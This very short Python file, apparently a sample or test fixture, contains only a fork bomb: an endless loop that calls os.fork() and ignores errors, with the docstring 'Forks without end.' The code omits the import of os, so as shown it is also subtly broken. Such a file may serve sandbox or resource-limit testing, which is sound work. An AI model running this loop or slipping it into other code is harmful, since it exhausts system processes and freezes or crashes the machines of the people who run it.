# mypy: ignore-errors
"""Forks without end."""
while True:
    try:
        os.fork()
    except OSError:
        pass
